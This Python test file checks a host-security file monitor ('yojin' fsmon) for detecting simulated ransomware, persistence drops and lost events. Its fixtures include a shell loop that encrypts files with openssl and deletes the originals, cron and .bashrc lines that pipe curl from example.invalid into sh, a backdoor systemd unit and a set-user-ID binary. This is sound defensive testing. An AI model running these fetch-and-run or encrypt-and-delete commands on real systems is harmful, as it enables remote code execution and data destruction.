#!/usr/bin/env python3
"""Live file monitoring end to end, through tests/fsmon/fsmon_driver (a yj_fsmon polled in a
loop, every event printed as an EVE JSON line).

- ransomware: 200 text files encrypted with `openssl enc -aes-256-cbc -pbkdf2` (each written
  as NAME.enc, then the original deleted, as ransomware does) raise exactly one critical
  `ransomware` alert (YJ-HOST-2106) within 5 s of the start; with fanotify (root) it names
  the writing program; with inotify alone it still comes.
- normal editing: a handful of text files saved again and again (in place and the editor
  way, through a swap file renamed over), new documents (text and a zip-based .docx), a
  copied folder of text files made a git repository, an archive of photos and notes
  unpacked, a folder of random data moved in and its files' modes changed: fim events, no
  ransomware alert.
- persistence: a file dropped into a watched "etc/cron.d", a unit file in a folder created
  while watching, a new set-user-ID file, a profile script, a user's .bashrc: persistence
  alerts.
- stop_process (root with fanotify only): the encrypting script is paused (SIGSTOP).

With a second argument, the ransomware, editing and stop_process cases run through
`yojin watch --dir DIR --eve -` instead (the service user, its one or two capabilities and
the seccomp filter included); persistence and lost events stay with the driver, whose system
paths can be a temporary folder.

Usage: test_fsmon.py path/to/fsmon_driver [path/to/yojin]"""
import json
import os
import queue
import random
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
import zipfile

DRIVER = sys.argv[1]
YOJIN = sys.argv[2] if len(sys.argv) > 2 else None
FAILURES = []
DEADLINE = 5.0  # seconds the issue allows between the start of the encryption and the alert
RANSOM = 2106


def check(cond, what):
    if not cond:
        FAILURES.append(what)
        print("FAIL:", what)


class Monitor:
    """The driver running on some folders; events are collected with their arrival time."""

    def __init__(self, args):
        self.q = queue.Queue()
        self.events = []
        if YOJIN:
            self._start_watch(args)
            return
        self.proc = subprocess.Popen([DRIVER, "--lang", "en"] + args, stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE, text=True)
        threading.Thread(target=self._read, daemon=True).start()
        ready = self.next(10)
        if not ready or ready.get("event_type") != "ready":
            raise SystemExit("driver did not start: %r %s" % (ready, self.proc.stderr.read()))
        self.fanotify = ready["fanotify"]

    def _start_watch(self, args):
        """yojin watch on the --data folders of args (system paths: its defaults)."""
        base = tempfile.mkdtemp(prefix="yj-fsmon-watch-")
        data = os.path.join(base, "data")
        os.makedirs(data)
        log = os.path.join(base, "empty.log")
        open(log, "w").close()
        if "--stop" in args:
            with open(os.path.join(data, "yojin.yaml"), "w") as f:
                f.write("watch:\n  ransomware:\n    stop_process: true\n")
        cmd = [YOJIN, "--data", data, "--lang", "en", "watch", "--eve", "-", "--log", log,
               "--no-journal"]
        for i, a in enumerate(args):
            if a == "--data":
                cmd += ["--dir", args[i + 1]]
        self.proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     text=True)
        line = self.proc.stderr.readline()
        if not line.startswith("Watching"):
            raise SystemExit("yojin watch did not start: %s%s" % (line, self.proc.stderr.read()))
        threading.Thread(target=self._read, daemon=True).start()
        self.fanotify = os.geteuid() == 0

    def _read(self):
        for line in self.proc.stdout:
            self.q.put((time.monotonic(), json.loads(line)))
        self.q.put(None)

    def next(self, timeout):
        try:
            item = self.q.get(timeout=timeout)
        except queue.Empty:
            return None
        if item is None:
            return None
        self.events.append(item)
        return item[1]

    def wait_alert(self, sid, timeout):
        """Waits for alert sid; returns (arrival time, event) or None."""
        end = time.monotonic() + timeout
        for t, ev in self.events:
            if alert_id(ev) == sid:
                return t, ev
        while time.monotonic() < end:
            ev = self.next(max(0.01, end - time.monotonic()))
            if ev is not None and alert_id(ev) == sid:
                return self.events[-1][0], ev
        return None

    def drain(self, seconds):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            self.next(max(0.01, end - time.monotonic()))

    def stop(self):
        self.proc.send_signal(signal.SIGTERM)
        self.proc.wait(20)
        while self.next(0.2) is not None:
            pass
        err = self.proc.stderr.read()
        if YOJIN:
            check(self.proc.returncode == 0, "yojin watch stops cleanly: %s" % err)
        return err

    def alerts(self, sid):
        return [ev for _, ev in self.events if alert_id(ev) == sid]

    def fims(self):
        return [ev["fim"] for _, ev in self.events if ev.get("event_type") == "fim"]


def alert_id(ev):
    return ev.get("alert", {}).get("signature_id") if ev.get("event_type") == "alert" else None


WORDS = ("invoice customer order meeting budget schedule report staff office payment "
         "delivery contract project minutes approval quarter sales summary plan review").split()


def text(n=4096, seed=0):
    rnd = random.Random(seed)
    out = []
    size = 0
    while size < n:
        w = rnd.choice(WORDS)
        out.append(w)
        size += len(w) + 1
    return " ".join(out)[:n] + "\n"


def make_docs(folder, count):
    os.makedirs(folder, exist_ok=True)
    for i in range(count):
        with open(os.path.join(folder, "doc%03d.txt" % i), "w") as f:
            f.write(text(4096, i))


ENCRYPT = ('for f in "$1"/*.txt; do '
           'openssl enc -aes-256-cbc -pbkdf2 -pass pass:yojin-test -in "$f" -out "$f.enc" '
           '&& rm -f "$f"; %s done')


def ransomware_case(base, fanotify_wanted):
    name = "fan" if fanotify_wanted else "ino"
    share = os.path.join(base, "share-" + name)
    make_docs(share, 200)
    sysdir = os.path.join(base, "sys-" + name)
    os.makedirs(sysdir)
    args = ["--data", share, "--system", sysdir]
    if not fanotify_wanted:
        args.append("--no-fanotify")
    mon = Monitor(args)
    t0 = time.monotonic()
    enc = subprocess.Popen(["bash", "-c", ENCRYPT % "", "encrypt", share])
    got = mon.wait_alert(RANSOM, 30)
    enc.wait(120)
    check(enc.returncode == 0, "%s: the encryption script ran" % name)
    mon.drain(1.5)
    err = mon.stop()
    left = [f for f in os.listdir(share) if f.endswith(".txt")]
    check(len(left) == 0 and len(os.listdir(share)) == 200, "%s: 200 files encrypted" % name)
    check(got is not None, "%s: a ransomware alert was raised" % name)
    if got is None:
        print(err)
        return
    latency = got[0] - t0
    print("%s (fanotify %s): ransomware alert %.2f s after the encryption started"
          % (name, mon.fanotify, latency))
    check(latency <= DEADLINE, "%s: alert within %.0f s (took %.2f s)" % (name, DEADLINE, latency))
    check(len(mon.alerts(RANSOM)) == 1, "%s: exactly one ransomware alert per burst (got %d)"
          % (name, len(mon.alerts(RANSOM))))
    a = got[1]["alert"]
    check(a["severity"] == 1 and a["category"] == "ransomware", "%s: critical, ransomware" % name)
    y = got[1].get("yojin", {})
    summary = y.get("summary", "")
    check(share in summary and "encrypted" in summary, "%s: summary names the folder: %s"
          % (name, summary))
    check(y.get("playbook") == "ransomware", "%s: ransomware playbook: %r" % (name, y))
    check("network cable" in y.get("advice", ""), "%s: advice says what to do now" % name)
    if mon.fanotify:
        check("openssl" in summary or "bash" in summary,
              "%s: the writing program is named: %s" % (name, summary))
    else:
        check("unknown" in summary, "%s: without fanotify the program is unknown: %s"
              % (name, summary))
    fims = mon.fims()
    check(any(f["path"].endswith(".enc") and f["change"] == "added" for f in fims),
          "%s: fim events for the new files" % name)
    check(any(f["path"].endswith(".txt") and f["change"] == "removed" for f in fims),
          "%s: fim events for the deleted files" % name)


def editing_case(base):
    docs = os.path.join(base, "docs")
    make_docs(docs, 5)
    src = os.path.join(base, "to-copy")
    make_docs(src, 100)
    sysdir = os.path.join(base, "sys-edit")
    os.makedirs(sysdir)
    mon = Monitor(["--data", docs, "--system", sysdir])
    for rnd in range(20):
        for i in range(5):
            p = os.path.join(docs, "doc%03d.txt" % i)
            if rnd % 2:
                with open(p, "a") as f:  # saved in place
                    f.write("line %d added\n" % rnd)
            else:  # the editor way: a swap file renamed over the original
                tmp = os.path.join(docs, ".doc%03d.txt.swp" % i)
                with open(tmp, "w") as f:
                    f.write(text(4096 + rnd, i))
                os.rename(tmp, p)
        time.sleep(0.02)
    for i in range(5):  # new documents, one of them a real zip-based office file
        with open(os.path.join(docs, "new%d.md" % i), "w") as f:
            f.write(text(3000, 100 + i))
    with zipfile.ZipFile(os.path.join(docs, "letter.docx"), "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("word/document.xml", text(20000, 7))
    # Unpacking an archive of documents and photos.
    arch = os.path.join(base, "photos.zip")
    with zipfile.ZipFile(arch, "w", zipfile.ZIP_DEFLATED) as z:
        for i in range(40):
            z.writestr("trip/IMG_%04d.jpg" % i, os.urandom(6000))
            z.writestr("trip/notes%02d.txt" % i, text(3000, 200 + i))
    with zipfile.ZipFile(arch) as z:
        z.extractall(os.path.join(docs, "unzipped"))
    shutil.copytree(src, os.path.join(docs, "copied"))
    os.makedirs(os.path.join(docs, "copied", "sub"))
    with open(os.path.join(docs, "copied", "sub", "later.txt"), "w") as f:
        f.write(text(2000, 9))
    # A repository made in the share: git's compressed objects are not counted.
    if shutil.which("git"):
        repo = os.path.join(docs, "copied")
        env = dict(os.environ, GIT_AUTHOR_NAME="t", GIT_AUTHOR_EMAIL="t@example.invalid",
                   GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.invalid")
        for cmd in (["init", "-q"], ["add", "."], ["commit", "-qm", "docs"]):
            subprocess.run(["git", "-C", repo] + cmd, env=env, check=True)
    # A folder of random-looking files moved in (not rewritten): added, not counted.
    packed = os.path.join(base, "packed-outside")
    os.makedirs(packed)
    for i in range(40):
        with open(os.path.join(packed, "chunk%02d.bin" % i), "wb") as f:
            f.write(os.urandom(4096))
    time.sleep(0.2)
    os.rename(packed, os.path.join(docs, "moved-in"))
    time.sleep(0.3)
    for name in os.listdir(os.path.join(docs, "moved-in")):  # chmod -R rewrites nothing
        os.chmod(os.path.join(docs, "moved-in", name), 0o600)
    mon.drain(2.5)
    mon.stop()
    check(any(f["path"].endswith("/moved-in/chunk07.bin") and f["change"] == "added"
              for f in mon.fims()), "editing: files of a folder moved in are added")
    check(mon.alerts(RANSOM) == [], "editing: no ransomware alert (got %d)"
          % len(mon.alerts(RANSOM)))
    fims = mon.fims()
    check(any(f["path"].endswith("/copied/doc050.txt") and f["change"] == "added" for f in fims),
          "editing: the copied files are fim events")
    check(any(f["path"].endswith("/copied/sub/later.txt") for f in fims),
          "editing: a folder created while watching is watched")
    check(any(f["path"].endswith("/doc001.txt") and f["change"] == "modified" for f in fims),
          "editing: saving in place is a modification")


def drop(mon, root, rel, content, what):
    """Writes root/rel (making its folders) and expects a persistence alert naming it."""
    path = os.path.join(root, rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    time.sleep(0.3)  # the monitor adds watches for the new folders
    with open(path, "w") as f:
        f.write(content)
    mon.drain(1)
    check(any(a["fim"]["path"] == path for a in mon.alerts(2102)),
          "persistence: %s raises an alert" % what)


def persistence_case(base):
    root = os.path.join(base, "host")
    os.makedirs(os.path.join(root, "etc", "cron.d"))
    data = os.path.join(base, "pdata")
    os.makedirs(data)
    mon = Monitor(["--data", data, "--system", root])
    with open(os.path.join(root, "etc", "cron.d", "evil"), "w") as f:
        f.write("* * * * * root curl http://example.invalid/x | sh\n")
    got = mon.wait_alert(2102, 5)
    check(got is not None and got[1]["fim"]["path"].endswith("/etc/cron.d/evil"),
          "persistence: a new cron file raises YJ-HOST-2102: %r" % (got,))
    # Folders created while watching are watched as they appear.
    drop(mon, root, "etc/systemd/system/backdoor.service", "[Service]\nExecStart=/tmp/x\n",
         "a unit in a folder created while watching")
    drop(mon, root, "etc/profile.d/zz.sh", "export X=1\n", "a shell profile script")
    drop(mon, root, "home/alice/.bashrc", "curl -s http://example.invalid/x | sh\n",
         "a user's .bashrc")
    shell = os.path.join(root, "tmp-shell")
    shutil.copy("/bin/true", shell)
    os.chmod(shell, 0o4755)
    got = mon.wait_alert(2103, 5)
    check(got is not None, "persistence: a new set-user-ID file raises YJ-HOST-2103")
    mon.stop()
    check(mon.alerts(RANSOM) == [], "persistence: no ransomware alert")


def gaps_case(base):
    """Lost events (the kernel's queue overflowed while the monitor was paused) and folders
    beyond the watch limit (the test build's YOJIN_FSMON_TEST_WATCHES) are alerts, not
    failures: the monitor goes on."""
    data = os.path.join(base, "gaps")
    for i in range(6):
        os.makedirs(os.path.join(data, "d%d" % i))
    sysdir = os.path.join(base, "sys-gaps")
    os.makedirs(sysdir)
    os.environ["YOJIN_FSMON_TEST_WATCHES"] = "4"
    try:
        mon = Monitor(["--data", data, "--system", sysdir, "--no-fanotify"])
    finally:
        del os.environ["YOJIN_FSMON_TEST_WATCHES"]
    got = mon.wait_alert(2108, 5)
    # 8 folders (the data root, its 6 sub-folders, the system root); 4 may be watched.
    check(got is not None and got[1]["alert"]["count"] == 4,
          "gaps: 4 folders beyond the watch limit are one alert: %r" % (got,))
    flood = os.path.join(data, "d0")
    os.kill(mon.proc.pid, signal.SIGSTOP)
    try:
        with open("/proc/sys/fs/inotify/max_queued_events") as f:
            limit = int(f.read())
        for i in range(limit // 2 + 100):  # each file: created, written-and-closed
            with open(os.path.join(flood, "f%d" % i), "w"):
                pass
    finally:
        os.kill(mon.proc.pid, signal.SIGCONT)
    got = mon.wait_alert(2107, 30)
    check(got is not None, "gaps: lost events raise YJ-HOST-2107")
    with open(os.path.join(data, "after.txt"), "w") as f:
        f.write("still watching\n")
    mon.drain(1)
    err = mon.stop()
    check(any(f["path"].endswith("/after.txt") for f in mon.fims()),
          "gaps: the monitor goes on after an overflow")
    check(re.search(r"overflows [1-9]", err) is not None, "gaps: counted: %s" % err)


def missing_case(base):
    """A data folder that does not exist stops the start with its name."""
    gone = os.path.join(base, "no-such-share")
    if YOJIN:
        data = os.path.join(base, "missing-data")
        log = os.path.join(base, "missing.log")
        open(log, "w").close()
        cmd = [YOJIN, "--data", data, "--lang", "en", "watch", "--dir", gone, "--eve", "-",
               "--no-journal", "--log", log, "--seconds", "1"]
    else:
        cmd = [DRIVER, "--lang", "en", "--data", gone, "--system", base]
    p = subprocess.run(cmd, capture_output=True, text=True, timeout=30)
    check(p.returncode == 1 and gone in p.stderr and "does not exist" in p.stderr,
          "a missing data folder is an error naming it (%d): %s" % (p.returncode, p.stderr))


def stop_case(base):
    share = os.path.join(base, "share-stop")
    make_docs(share, 400)
    sysdir = os.path.join(base, "sys-stop")
    os.makedirs(sysdir)
    mon = Monitor(["--data", share, "--system", sysdir, "--stop"])
    if not mon.fanotify:
        mon.stop()
        print("stop_process: fanotify not available here; skipped")
        return
    enc = subprocess.Popen(["bash", "-c", ENCRYPT % "sleep 0.01;", "encrypt", share])
    got = mon.wait_alert(RANSOM, 20)
    state = None
    if got:
        time.sleep(0.3)
        with open("/proc/%d/stat" % enc.pid) as f:
            state = f.read().rsplit(")", 1)[1].split()[0]
    os.kill(enc.pid, signal.SIGCONT)
    enc.kill()
    enc.wait(10)
    mon.stop()
    check(got is not None, "stop_process: ransomware alert")
    if got:
        summary = got[1]["yojin"]["summary"]
        check("paused process %d" % enc.pid in summary, "stop_process: the alert says the "
              "script was paused: %s" % summary)
        check(state == "T", "stop_process: the encrypting script is stopped (state %r)" % state)


def main():
    if not shutil.which("openssl"):
        raise SystemExit("openssl is needed")
    base = tempfile.mkdtemp(prefix="yj-fsmon-")
    try:
        ransomware_case(base, True)
        if not YOJIN:
            ransomware_case(base, False)
        editing_case(base)
        missing_case(base)
        if not YOJIN:
            persistence_case(base)
            gaps_case(base)
        if os.geteuid() == 0:
            stop_case(base)
        else:
            print("stop_process: needs root; skipped")
    finally:
        shutil.rmtree(base, ignore_errors=True)
    if FAILURES:
        print("%d failures" % len(FAILURES))
        sys.exit(1)
    print("all fsmon checks passed")


main()
